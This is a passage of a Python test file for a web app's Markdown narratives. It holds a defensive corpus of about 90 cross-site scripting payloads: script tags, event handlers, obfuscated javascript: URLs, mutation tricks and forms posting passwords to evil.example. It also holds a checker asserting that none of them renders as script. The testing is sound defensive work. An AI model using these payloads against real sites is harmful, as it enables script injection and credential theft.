    """A URL as a browser might read its scheme: no whitespace, controls or invisible format
    characters anywhere, lower case (stricter than browsers, never looser)."""
    return "".join(
        c for c in value if not c.isspace() and unicodedata.category(c) not in ("Cc", "Cf")
    ).lower()


class Markup(HTMLParser):
    """Every start tag of a document, marking those inside sanitised narrative containers
    (``<div class="narrative">``; the whole document when it is a fragment)."""

    def __init__(self, html: str, *, fragment: bool = False):
        super().__init__(convert_charrefs=True)
        self.fragment = fragment
        self.tags: list[tuple[str, list[tuple[str, str | None]], bool]] = []
        self.script_text = ""
        self._depth = 0
        self._script = False
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        inside = self.fragment or self._depth > 0
        self.tags.append((tag, attrs, inside))
        if tag == "script":
            self._script = True
        if tag in VOID:
            return
        if self._depth:
            self._depth += 1
        elif tag == "div" and "narrative" in (dict(attrs).get("class") or "").split():
            self._depth = 1

    def handle_endtag(self, tag):
        if tag == "script":
            self._script = False
        if tag not in VOID and self._depth:
            self._depth -= 1

    def handle_data(self, data):
        if self._script:
            self.script_text += data

    def outside_narrative(self) -> Counter:
        """How often each tag that no narrative may hold occurs: the page's own markup."""
        return Counter(tag for tag, _attrs, _inside in self.tags if tag not in NARRATIVE_TAGS)


def executable_constructs(html: str, *, fragment: bool = False) -> list[str]:
    """What in a page or fragment could run script, load a resource or send a form."""
    found = []
    markup = Markup(html, fragment=fragment)
    if markup.script_text.strip():
        found.append(f"inline script: {markup.script_text[:80]!r}")
    narratives = 0
    for tag, attrs, inside in markup.tags:
        a = dict(attrs)
        here = f"<{tag} {attrs}>"
        narratives += inside
        # The page's own images (a company's badge) are addresses of the app; none is ever
        # in a narrative.
        own_image = (
            tag == "img"
            and not inside
            and (a.get("src") or "").startswith("/")
            and not (a.get("src") or "").startswith("//")
        )
        if tag in NEVER and not own_image:
            found.append(f"tag {here}")
        for name, value in attrs:
            if name.startswith("on"):
                found.append(f"event handler {here}")
            if name in ("style", "srcdoc", "formaction"):
                found.append(f"{name} attribute {here}")
            if name in URL_ATTRIBUTES and url_scheme_text(value or "").startswith(BAD_SCHEMES):
                found.append(f"script URL {here}")
        if inside:
            if tag not in NARRATIVE_TAGS:
                found.append(f"tag not allowed in a narrative {here}")
            extra = set(a) - NARRATIVE_ATTRIBUTES.get(tag, set())
            if extra:
                found.append(f"attributes {sorted(extra)} not allowed in a narrative {here}")
            if "href" in a and not url_scheme_text(a["href"] or "").startswith(
                ("http://", "https://", "mailto:")
            ):
                found.append(f"link that is not http(s) or mailto {here}")
            continue
        # The page's own markup: scripts and styles are the app's files, forms post to the app.
        if tag == "script" and not (a.get("src") or "").startswith("/static/"):
            found.append(f"script {here}")
        # a stylesheet or icon is the app's file; an alternate (the Atom feeds) is an app address
        alternate = a.get("rel") == "alternate" and a.get("type") == "application/atom+xml"
        href = a.get("href") or ""
        if tag == "link" and not (
            href.startswith("/static/") or (alternate and href.startswith("/feeds/"))
        ):
            found.append(f"link {here}")
        if tag == "meta" and ("http-equiv" in a or a.get("name", "viewport") != "viewport"):
            found.append(f"meta {here}")
        action = a.get("action") or ""
        if tag == "form" and not (action.startswith("/") and not action.startswith("//")):
            found.append(f"form {here}")
    return found


def payload(name: str, text: str):
    return pytest.param(text, id=name)


XSS = [
    # script elements
    payload("script", "<script>alert(1)</script>"),
    payload("script-src", "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>"),
    payload("script-mixed-case", "<ScRiPt>alert(1)</sCrIpT>"),
    payload("script-nested", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    payload("script-slash-attr", '<script/xss src="https://evil.example/x.js"></script>'),
    payload("script-double-open", "<<script>alert(1);//<</script>"),
    payload("script-unclosed", "<script>alert(1)"),
    payload("script-in-svg", "<svg><script>alert(1)</script></svg>"),
    payload("script-in-heading", "# <script>alert(1)</script>"),
    payload("script-rtl-override", "\u202e<script>alert(1)</script>"),
    payload("script-fullwidth", "＜script＞alert(1)＜/script＞"),
    payload("script-long-s", "<ſcript>alert(1)</ſcript>"),
    payload("script-code-span", "`<script>alert(1)</script>`"),
    payload("script-code-block", "    <script>alert(1)</script>"),
    payload("script-fenced", "```\n<script>alert(1)</script>\n```"),
    # event handlers
    payload("img-onerror", "<img src=x onerror=alert(1)>"),
    payload("img-onerror-entities", '<img src=x onerror="&#97;&#108;&#101;&#114;&#116;(1)">'),
    payload("img-quote-breakout", '<img """><script>alert(1)</script>">'),
    payload("svg-onload", "<svg onload=alert(1)>"),
    payload("svg-slash-onload", "<svg/onload=alert(1)>"),
    payload("body-onload", "<body onload=alert(1)>"),
    payload("details-ontoggle", "<details open ontoggle=alert(1)>x</details>"),
    payload("video-source-onerror", "<video><source onerror=alert(1)></video>"),
    payload("audio-onerror", "<audio src=x onerror=alert(1)>"),
    payload("input-onfocus", "<input autofocus onfocus=alert(1)>"),
    payload("marquee-onstart", "<marquee onstart=alert(1)>x</marquee>"),
    payload("p-onclick", '<p onclick="alert(1)">click</p>'),
    payload("a-onmouseover", '<a href="https://example.org" onmouseover="alert(1)">x</a>'),
    payload("sup-onmouseover", "<sup onmouseover=alert(1)>x</sup>"),
    payload("heading-onclick", "<h1 onclick=alert(1)>x</h1>"),
    payload(
        "table-cell-onmouseover",
        "<table><tr><td onmouseover=alert(1) align=left>x</td></tr></table>",
    ),
    payload("custom-element-onclick", "<x onclick=alert(1)>x</x>"),
    payload("markdown-table-img", "| a |\n|---|\n| <img src=x onerror=alert(1)> |"),
    # script URLs in Markdown
    payload("md-javascript", "[x](javascript:alert(1))"),
    payload("md-javascript-case", "[x](JaVaScRiPt:alert(1))"),
    payload("md-javascript-spaces", "[x](  javascript:alert(1))"),
    payload("md-vbscript", "[x](vbscript:msgbox(1))"),
    payload("md-data", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    payload("md-tab-entity", "[x](jav&#x09;ascript:alert(1))"),
    payload("md-decimal-entity", "[x](&#106;avascript:alert(1))"),
    payload("md-colon-entity", "[x](javascript&colon;alert(1))"),
    payload("md-zero-width", "[x](java\u200bscript:alert(1))"),
    payload("md-reference", "[x][ref]\n\n[ref]: javascript:alert(1)"),
    payload("md-reference-data", "[x][ref]\n\n[ref]: data:text/html,<script>alert(1)</script>"),
    payload("md-autolink-javascript", "<javascript:alert(1)>"),
    payload("md-autolink-vbscript", "<vbscript:msgbox(1)>"),
    payload("md-image-javascript", "![x](javascript:alert(1))"),
    payload("md-image-data-svg", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"),
    payload("md-title-breakout", '[x](https://example.org "t\\" onmouseover=\\"alert(1)")'),
    # script URLs in raw HTML
    payload("a-javascript", '<a href="javascript:alert(1)">x</a>'),
    payload("a-tab-entity", '<a href="jav&#x09;ascript:alert(1)">x</a>'),
    payload("a-literal-tab", '<a href="jav\tascript:alert(1)">x</a>'),
    payload("a-leading-control", '<a href=" &#14; javascript:alert(1)">x</a>'),
    payload(
        "a-hex-entities",
        '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;'
        '&#x70;&#x74;&#x3A;alert(1)">x</a>',
    ),
    payload("a-bom", '<a href="\ufeffjavascript:alert(1)">x</a>'),
    payload("a-vbscript", '<a href="vbscript:msgbox(1)">x</a>'),
    payload("a-data", '<a href="data:text/html,<script>alert(1)</script>">x</a>'),
    payload("a-relative-file", '<a href="/etc/passwd">x</a>'),
    payload(
        "a-mailto-script", '<a href="mailto:x@example.org?body=<script>alert(1)</script>">x</a>'
    ),
    payload(
        "a-title-breakout", '<a href="https://example.org" title=\'x" onmouseover="alert(1)\'>x</a>'
    ),
    payload("img-javascript", '<IMG SRC="javascript:alert(1);">'),
    payload("iframe-javascript", '<iframe src="javascript:alert(1)"></iframe>'),
    payload("iframe-srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    payload("svg-xlink", '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'),
    payload("td-background", '<table><tr><td background="javascript:alert(1)">x</td></tr></table>'),
    payload("button-formaction", '<button formaction="javascript:alert(1)">x</button>'),
    payload("isindex", '<isindex action="javascript:alert(1)" type=image>'),
    # styles
    payload("style-url", '<div style="background:url(javascript:alert(1))">x</div>'),
    payload("style-expression", '<p style="width: expression(alert(1))">x</p>'),
    payload("style-import", "<style>@import 'https://evil.example/x.css';</style>"),
    payload("style-element-url", '<style>body{background:url("javascript:alert(1)")}</style>'),
    payload("style-behavior", '<xss style="behavior:url(x.htc)">x</xss>'),
    payload("link-stylesheet", "<link rel=stylesheet href=https://evil.example/x.css>"),
    # elements that load, navigate or send
    payload("object", '<object data="javascript:alert(1)"></object>'),
    payload("embed", '<embed src="javascript:alert(1)">'),
    payload("base", '<base href="https://evil.example/">'),
    payload("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    payload(
        "form-action",
        '<form action="https://evil.example"><input name="password"><button>Go</button></form>',
    ),
    # comments, CDATA and mutation tricks
    payload("comments-around-script", "<!-- --><script>alert(1)</script><!-- -->"),
    payload("comment-hiding-img", '<!--<img src="--><img src=x onerror=alert(1)//">'),
    payload("conditional-comment", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->"),
    payload("cdata", "<![CDATA[<script>alert(1)</script>]]>"),
    payload("math-mutation", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    payload("noscript-mutation", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    # breaking out of the page's own markup
    payload("attribute-breakout-double", '" onmouseover="alert(1)'),
    payload("attribute-breakout-single", "' onmouseover='alert(1)"),
    payload("tag-breakout", '"><script>alert(1)</script>'),
    payload("textarea-breakout", "</textarea><script>alert(1)</script>"),
    payload("div-breakout", "</div></details><img src=x onerror=alert(1)>"),
    payload("template-literal", "{{ config }}${alert(1)}<%= 7*7 %>"),
]


@pytest.mark.parametrize("text", XSS)
def test_a_narrative_never_runs_as_script(
    app, officer_a, anonymous_client, filing_world, company_a, text
):
    disclosure = filing_world["disclosure_a"]
    set_state(app, disclosure, DisclosureState.PUBLISHED)
    public_before = anonymous_client.get("/companies/company-a").get_data(as_text=True)
    set_state(app, disclosure, DisclosureState.DRAFT)
    page_before = officer_a.get(commitment_url(ITEM)).get_data(as_text=True)
    for html in (public_before, page_before):
        assert executable_constructs(html) == []  # the check itself passes the app's pages

    saved = post_item(
        officer_a, ITEM, {"status": "met", "narrative": text}, page=page_before, json=True
    )
    assert saved.status_code == 200, saved.get_data(as_text=True)
    body = saved.get_json()
    assert body["saved"] is True and body["version"] == 2
    # Stored as typed, but for the bidirectional controls dropped on entry (tracker.bidi).
    assert answers(app, company_a)[ITEM]["narrative"] == without_bidi_controls(text)
    assert executable_constructs(body["preview"], fragment=True) == []

    token = csrf_from(Forms(page_before).form(save_url(ITEM)))
    preview = officer_a.post("/filing/preview", data={"text": text, "csrf_token": token})
    assert preview.status_code == 200
    assert preview.get_json()["html"] == body["preview"]
    assert executable_constructs(preview.get_json()["html"], fragment=True) == []

    page = officer_a.get(commitment_url(ITEM)).get_data(as_text=True)
    assert executable_constructs(page) == []
    assert Markup(page).outside_narrative() == Markup(page_before).outside_narrative()

    history = officer_a.get(f"{save_url(ITEM)}/history").get_data(as_text=True)
    assert "Version 2 ·" in history
    assert executable_constructs(history) == []

    set_state(app, disclosure, DisclosureState.PUBLISHED)
    public = anonymous_client.get("/companies/company-a").get_data(as_text=True)
    assert executable_constructs(public) == []
    assert Markup(public).outside_narrative() == Markup(public_before).outside_narrative()


@pytest.fixture
def anonymous_client(app):
    return app.test_client()


def test_the_corpus_is_large_and_distinct():
    texts = [p.values[0] for p in XSS]
    assert len(texts) >= 50
    assert len(set(texts)) == len(texts)


@pytest.mark.parametrize(
    "html",
    [
        "<script>alert(1)</script>",
        '<p onclick="x">a</p>',
        '<a href="jav\tascript:x">a</a>',
        '<a href="&#x6A;avascript:x">a</a>',
        "<img src=x>",
        '<form action="https://e.example">',
        '<meta http-equiv="refresh">',
        "<svg></svg>",
        '<a href="/relative">a</a>',
        '<p style="color:red">a</p>',
    ],
)
def test_the_xss_check_catches_what_it_should(html):
    assert executable_constructs(html, fragment=True)
    assert executable_constructs(f'<div class="narrative">{html}</div>')


def test_the_xss_check_passes_ordinary_narratives():
    html = (
        '<p><strong>Bold</strong> <a href="https://example.org" title="t" '
        'rel="noopener">x</a> <a href="mailto:a@example.org">m</a></p>'
        '<table><tr><td align="left">1</td></tr></table>'
    )
    assert executable_constructs(html, fragment=True) == []


# --- a narrative that does not render in time ---------------------------------------------------

# Ordinary Markdown that takes tens of milliseconds to render: far past a budget of 1 ms.
SLOW = FAMILIES["ordinary markdown"](10_000)


@pytest.mark.parametrize("as_json", [False, True], ids=["form", "json"])
def test_a_narrative_that_overruns_the_render_budget_is_refused_and_kept(
    app, officer_a, company_a, monkeypatch, as_json
):
    # No accepted narrative overruns the real budget (tests/domain/test_markdown_bounds.py):
    # a budget too short for any render stands in for one that would.
    monkeypatch.setattr("tracker.domain.markdown.HARD_BUDGET", 0.001)
    before = answers(app, company_a)
    response = post_item(officer_a, ITEM, {"status": "met", "narrative": SLOW}, json=as_json)
    assert response.status_code == 422
    assert answers(app, company_a) == before
    if as_json:
        assert any("too intricate" in e for e in response.get_json()["errors"])
        return
    page = response.get_data(as_text=True)
    assert "too intricate to display" in page
    assert Forms(page).form(save_url(ITEM))[f"{prefix(ITEM)}-narrative"] == [SLOW]


def test_the_refusal_is_in_chinese_for_a_chinese_reader(app, officer_a, company_a, monkeypatch):
    monkeypatch.setattr("tracker.domain.markdown.HARD_BUDGET", 0.001)
    officer_a.get("/language/zh_CN")
    response = post_item(officer_a, ITEM, {"status": "met", "narrative": SLOW}, json=True)
    assert response.status_code == 422
    assert any("格式过于复杂" in e for e in response.get_json()["errors"])


def test_the_preview_refuses_a_render_that_overruns(app, officer_a, monkeypatch):
    page = officer_a.get(commitment_url(ITEM)).get_data(as_text=True)
    token = csrf_from(Forms(page).form(save_url(ITEM)))
    ok = officer_a.post("/filing/preview", data={"text": "*x*", "csrf_token": token})
    assert ok.status_code == 200 and ok.get_json()["html"] == "<p><em>x</em></p>"
    monkeypatch.setattr("tracker.domain.markdown.HARD_BUDGET", 0.001)
    slow = officer_a.post("/filing/preview", data={"text": SLOW, "csrf_token": token})
    assert slow.status_code == 422
    assert "too intricate" in slow.get_json()["error"]


def test_a_pathological_narrative_saves_and_previews_quickly(app, officer_a, company_a):
    narrative = "[" * 10_000 + "![" * 5_000
    response = post_item(officer_a, ITEM, {"status": "met", "narrative": narrative}, json=True)
    assert response.status_code == 200, response.get_json()
    assert response.get_json()["preview"] == f"<p>{narrative}</p>"
    page = officer_a.get(commitment_url(ITEM)).get_data(as_text=True)
    assert f"<p>{narrative}</p>" in page


def test_the_history_shows_a_change_too_long_to_compare_as_changed(app, officer_a, company_a):
    old, new = "甲乙" * 5_000, "乙甲" * 5_000  # 10,000 tokens each, nothing in common at the ends
    assert post_item(officer_a, ITEM, {"status": "met", "narrative": old}).status_code == 302
    assert post_item(officer_a, ITEM, {"status": "met", "narrative": new}).status_code == 302
    page = officer_a.get(f"/filing/{CYCLE}/items/{ITEM}/history").get_data(as_text=True)
    assert "This text changed; too long to show word by word." in page
    assert f"<ins>{new}</ins>" in page
    officer_a.get("/language/zh_CN")
    page = officer_a.get(f"/filing/{CYCLE}/items/{ITEM}/history").get_data(as_text=True)
    assert "此段文字有改动；内容过长，无法逐词显示差异。" in page
